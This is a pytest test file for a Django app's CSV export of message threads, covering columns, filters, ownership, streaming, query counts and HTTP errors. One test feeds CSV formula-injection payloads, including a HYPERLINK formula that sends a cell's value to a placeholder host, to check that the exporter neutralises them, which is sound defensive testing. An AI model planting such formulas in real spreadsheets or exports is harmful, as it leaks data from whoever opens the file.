"""Exports of threads as CSV: the rows of their list in its order, at a constant number of queries for a page."""

from collections.abc import Iterator

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from accounts.models import Profile
from interactions import exports
from interactions.api import examples
from interactions.models import Content, ExportLease, Interaction, Thread, thread_lists
from interactions.threads.decisions import decide
from interactions.threads.hiding import set_hidden
from tests import csv_exports
from tests.csv_exports import INTERACTIONS, assert_busy, cell, leave, listed, read, rest
from tests.thread_filters import every_filter
from tests.thread_requests import LIST, change
from tests.world import BRAND, HOUR, NOW, SECOND, T, comment, event, message, send, thread

PATH = f"{LIST}export.csv"
COLUMNS = (
    "id,profile,platform,kind,root_ref,content,status,snoozed_until,unread,labels,active_at,last_at,last_in_at,"
    "last_out_at,sentiment,is_demo,author_id,author_handle,author_name,last_id,last_direction,last_text,"
    "last_posted_at,last_send_status\r\n"
)


def start(client, query: str = "", **environment):
    return csv_exports.start(client, query, PATH, **environment)


def exported(client, query: str = "") -> list[dict[str, str]]:
    return read(rest(start(client, query)))


def flat(thread: dict) -> dict[str, str]:
    """The thread of the API as its cells."""
    author, last = thread["author"] or {}, thread["last"] or {}
    members = {f"author_{name}": author.get(name) for name in ("id", "handle", "name")}
    members |= {
        f"last_{name}": last.get(name) for name in ("id", "direction", "text", "posted_at", "send_status")
    }
    row = {name: value for name, value in thread.items() if name not in ("author", "last")}
    return {name: cell(value) for name, value in (row | members).items()}


def test_the_file_has_the_fields_of_threads_in_their_order(page, profile):
    send(profile, event("content.published", "piece"), comment("c1", text='Is it "new", or old?'))
    send(profile, comment("a1", T[1], parent_id="c1", author=BRAND, text="New.\nSee you!"))
    send(profile, message("m1", T[2] + SECOND / 4, text="x" * 300))
    change(page, "talk", labels=["urgent", "a; b, c", "Ελλάδα"])
    decide([thread("talk").pk], "snoozed", NOW, until=NOW + HOUR)
    Thread.objects.filter(root_ref="c1").update(sentiment="positive")
    ids = {
        "profile": profile.pk,
        "post": Content.objects.get().pk,
        "talk": thread("talk").pk,
        "c1": thread("c1").pk,
        "m1": Interaction.objects.get(platform_id="m1").pk,
        "a1": Interaction.objects.get(platform_id="a1").pk,
    }
    lines = (
        '{talk},{profile},facebook,message,talk,,snoozed,2026-03-04T08:30:00Z,false,"[""a; b, c"", ""urgent"", ""Ελλάδα""]",'
        "2026-02-27T09:30:00.250000Z,2026-02-27T09:30:00.250000Z,2026-02-27T09:30:00.250000Z,,,false,person-1,person,A Person,"
        "{m1},in," + "x" * 200 + ",2026-02-27T09:30:00.250000Z,\r\n"
        "{c1},{profile},facebook,comment,c1,{post},done,,false,[],"
        "2026-02-27T08:30:00Z,2026-02-27T08:30:00Z,2026-02-27T07:30:00Z,2026-02-27T08:30:00Z,positive,false,person-1,person,"
        'A Person,{a1},out,"New.\nSee you!",2026-02-27T08:30:00Z,\r\n'
    )
    assert rest(start(page)).decode() == COLUMNS + lines.format(**ids)


def test_the_schemas_example_has_the_columns(page):
    [example] = examples.THREAD_EXPORT
    [row] = read(example.value.encode())
    assert example.value.startswith(COLUMNS)
    assert row == flat(examples.THREAD[0].value)


def test_without_threads_the_file_has_the_names_of_the_columns_only(page):
    for query in ("", "?search=nothing", "?label=none", "?content=1&kind=message"):
        assert rest(start(page, query)).decode() == COLUMNS


def test_the_answer_is_an_attachment_and_says_its_type(page, live):
    for path in (PATH, f"{PATH}/", reverse("threads-export")):
        answer = page.get(path)
        assert answer["Content-Type"] == "text/csv; charset=utf-8"
        assert answer["Content-Disposition"] == 'attachment; filename="threads.csv"'
        assert len(read(rest(answer))) == 2


@pytest.mark.parametrize("max_labelled", [2_000, 1])
def test_every_filter_selects_the_same_threads_as_in_the_list(
    page, live, threads_in_every_state, monkeypatch, max_labelled
):
    """By pages of 40. A label of more than `max_labelled` threads is read in another way."""
    monkeypatch.setattr(thread_lists, "MAX_LABELLED", max_labelled)
    monkeypatch.setattr(exports, "PAGE_SIZE", 40)
    post = Content.objects.filter(threads__active_at__isnull=False).first()
    Content.objects.filter(pk=post.pk).update(deleted_at=NOW)
    set_hidden([Interaction.objects.filter(type="comment", is_demo=True).first().pk], True, NOW)
    numbers = []
    queries = [query for query in every_filter(live) if max_labelled > 1 or "label" in query]
    for query in (*queries, "format=csv"):
        rows = listed(page, LIST, query.replace("format=csv", ""))
        assert exported(page, f"?{query}") == [flat(row) for row in rows], query
        numbers.append(len(rows))
    assert (max(numbers) > 120, sum(number > 0 for number in numbers) > len(numbers) - 6) == (True, True)


@pytest.mark.parametrize(
    ("query", "named"),
    [
        *(("status=burnt", "status"), ("active_after=soon", "active_after"), ("stauts=new", "stauts")),
        *(
            ("page_size=10", "page_size"),
            ("cursor=x", "cursor"),
            ("search=", "search"),
            ("unread=2", "unread"),
        ),
        *(("kind=comment&kind=message", "kind"), ("profile=x", "profile"), (f"label={'x' * 51}", "label")),
        ("active_after=2026-03-02&active_before=2026-03-01", "active_after"),
    ],
)
def test_a_wrong_parameter_is_400_and_named(page, live, query, named):
    answer = start(page, f"?{query}")
    assert (answer.status_code, answer["Content-Type"]) == (400, "application/problem+json")
    assert list(answer.json()["errors"]) == [named]
    assert not ExportLease.objects.exists()


def test_threads_of_others_and_those_without_a_visible_row_are_not_exported(page, bob, profile):
    others = Profile.objects.create(owner=bob, platform="x", platform_id="b", handle="bob")
    send(others, comment("theirs"))
    send(profile, comment("c1"), comment("c2"), event("comment.deleted", "c2", NOW.isoformat()))
    change(page, "c1", labels=["urgent"])
    assert [row["root_ref"] for row in exported(page)] == ["c1"]
    for query in (f"?profile={others.pk}", "?platform=x"):
        assert exported(page, query) == []
    page.force_login(bob)
    assert [row["root_ref"] for row in exported(page)] == ["theirs"]
    for query in (f"?profile={profile.pk}", "?label=urgent", "?search=comment&platform=facebook"):
        assert exported(page, query) == []


@pytest.mark.parametrize(
    "text", ["=1+1", '=HYPERLINK("http://x.example/?"&A1)', "+1", "-1", "@SUM(A1)", "＝1"]
)
def test_a_cell_that_a_spreadsheet_would_evaluate_begins_with_something_else(page, profile, text):
    author = {"id": text, "handle": text, "name": text}
    send(profile, message("m1", text=text, author=author, conversation_id=text))
    change(page, text, labels=[text])
    [row] = exported(page)
    columns = ("root_ref", "author_id", "author_handle", "author_name", "last_text")
    assert [row[name] for name in columns] == [f"'{text}"] * 5
    assert row["labels"] == cell([text])
    assert row["labels"][0] == "["


@pytest.mark.parametrize("start_of_text", ["\t", "\r", "\n"])
def test_a_text_that_begins_with_a_tab_or_a_line_break_gets_an_apostrophe(page, profile, start_of_text):
    send(profile, message("m1", text=f"{start_of_text}plain"))
    assert exported(page)[0]["last_text"] == f"'{start_of_text}plain"


def test_a_thread_whose_rows_are_deleted_while_it_is_read_has_empty_cells(page, profile, monkeypatch):
    send(profile, comment("c1"))
    real = exports.read_page

    def read_page(*arguments):
        page = real(*arguments)
        Interaction.objects.all().delete()
        return page

    monkeypatch.setattr(exports, "read_page", read_page)
    [row] = exported(page)
    members = [value for name, value in row.items() if name.startswith(("author_", "last_"))]
    assert (row["root_ref"], members) == ("c1", [row["last_at"], row["last_in_at"], *[""] * 9])


@pytest.fixture
def pages(profile, monkeypatch) -> None:
    """Alice has 25 threads, of which an export reads ten at a time; the newest is c24."""
    monkeypatch.setattr(exports, "PAGE_SIZE", 10)
    send(profile, *(comment(f"c{n}", T[0] + n * SECOND) for n in range(25)))


def test_the_threads_of_all_pages_are_there_once_while_others_arrive(page, profile, pages):
    parts = iter(start(page).streaming_content)
    file = next(parts)
    send(profile, comment("newest", NOW), comment("reply", NOW, parent_id="c20"))
    file += b"".join(parts)
    assert [row["root_ref"] for row in read(file)] == [f"c{n}" for n in range(24, -1, -1)]


def test_a_thread_that_becomes_active_before_it_is_read_is_missing(page, profile, pages):
    parts = iter(start(page).streaming_content)
    file = next(parts)
    send(profile, comment("reply", NOW, parent_id="c7"))
    file += b"".join(parts)
    assert [row["root_ref"] for row in read(file)] == [f"c{n}" for n in range(24, -1, -1) if n != 7]


@pytest.mark.parametrize(("first", "second"), [(PATH, INTERACTIONS), (INTERACTIONS, PATH), (PATH, PATH)])
def test_a_user_runs_one_export_of_any_list_at_a_time(page, pages, first, second):
    running = csv_exports.start(page, path=first)
    assert_busy(page, second)
    assert page.get(LIST).status_code == 200
    next(iter(running.streaming_content))
    assert_busy(page, second)
    leave(running)
    assert rest(csv_exports.start(page, path=second))


def queries_of(answer) -> Iterator[int]:
    """The number of statements of each further part of the file."""
    parts = iter(answer.streaming_content)
    while True:
        with CaptureQueriesContext(connection) as queries:
            part = next(parts, None)
        yield len(queries)
        if part is None:
            return


@pytest.mark.parametrize(
    ("query", "of_page"),  # threads, their rows, labels; for a label also labels, its threads, profiles
    [("", 3), ("?status=open&unread=true", 3), ("?label=urgent", 6)],
)
def test_each_page_takes_the_same_queries_whatever_is_on_it(
    page, profile, pages, django_assert_num_queries, query, of_page
):
    send(profile, event("content.published", "piece"))
    for number in range(25):
        change(page, f"c{number}", labels=["urgent", *(f"label {number % 9}" for _ in range(number % 2))])
    Thread.objects.update(status="open", unread=True)
    with django_assert_num_queries(3 + of_page):  # session, user, lease, first page
        answer = start(page, query)
    assert list(queries_of(answer)) == [0, of_page, of_page, 1]  # the last one releases the lease


def test_head_and_options_and_other_methods_answer_as_for_the_other_export(page, live):
    answer = page.head(PATH)
    assert (answer.status_code, b"".join(answer)) == (200, b"")
    assert (answer["Content-Type"], "Content-Length" in answer.headers) == ("text/csv; charset=utf-8", False)
    assert page.head(f"{PATH}?status=burnt").status_code == 400
    assert not ExportLease.objects.exists()
    assert page.options(PATH).json() == page.options(INTERACTIONS).json() | {
        "name": "Thread Export",
        "description": "Threads as a CSV file, newest activity first: all that match the filters.",
    }
    for method in ("post", "put", "patch", "delete"):
        assert getattr(page, method)(PATH, headers={"Accept": "*/*"}).status_code == 405
    refused = page.get(PATH, headers={"Accept": "application/json"})
    assert (refused.status_code, refused.json()["hint"]) == (406, "Send `Accept: text/csv`.")
    assert start(page, SERVER_PROTOCOL="HTTP/1.0").status_code == 505


def test_an_anonymous_client_gets_401(client, live):
    assert start(client).status_code == 401
